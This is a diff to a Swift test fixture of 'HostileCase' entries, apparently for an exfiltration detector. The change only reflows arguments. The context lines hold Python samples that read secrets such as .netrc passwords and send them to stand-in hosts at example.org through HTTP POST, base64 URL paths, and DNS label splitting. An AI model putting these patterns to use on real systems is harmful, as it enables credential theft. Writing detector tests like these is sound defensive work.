@@ -13,7 +13,8 @@ extension HostileCase {
       loot.post(json.dumps(haul).encode(), 'https://collect.example.org/v1/in', {'Content-Type': 'application/json'})
       """, honest: reporter),
     HostileCase(
-      "base64_in_path", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"], words: ["base64", "head"],
+      "base64_in_path", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"],
+      words: ["base64", "head"],
       """
       import base64, loot, urllib.request
       urllib.request.urlopen('http://collect.example.org/p/' + base64.urlsafe_b64encode(loot.secret()).decode())
@@ -166,7 +167,8 @@ extension HostileCase {
         except OSError: pass
       """, honest: "import socket; socket.getaddrinfo('www.example.org', 80)"),
     HostileCase(
-      "names_split", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"], words: ["labels(example.org"],
+      "names_split", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"],
+      words: ["labels(example.org"],
       "import loot; loot.ask(*(b'%d.' % n + piece + b'.n.example.org' for n, piece in enumerate(loot.pieces(loot.secret(), 6))))",
       honest: "import loot; loot.ask(b'a.www.example.org', b'b.www.example.org')"),
     HostileCase(
@@ -178,7 +180,8 @@ extension HostileCase {
       loot.ask(*(piece + b'.N.eXample.oRg' for piece in loot.pieces(mixed, 20)))
       """, honest: "import loot; loot.ask(b'wWw.ExAmPle.Org')"),
     HostileCase(
-      "names_folded", [.touched, .taintedEgress, .proven], decoys: ["netrc"], words: ["names that were looked up", "lower case"],
+      "names_folded", [.touched, .taintedEgress, .proven], decoys: ["netrc"],
+      words: ["names that were looked up", "lower case"],
       """
       import loot, random
       password = [w.split()[1] for w in loot.raw('.netrc').decode().splitlines() if 'password' in w][0]
@@ -207,7 +210,8 @@ extension HostileCase {
         s.recv(512)
       """),
     HostileCase(
-      "names_over_https", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"], words: ["example.org"],
+      "names_over_https", [.touched, .taintedEgress, .proven], decoys: ["aws-shared-credentials"],
+      words: ["example.org"],
       """
       import loot
       name = b'.'.join(loot.pieces(loot.secret().hex().encode(), 40)) + b'.n.example.org'
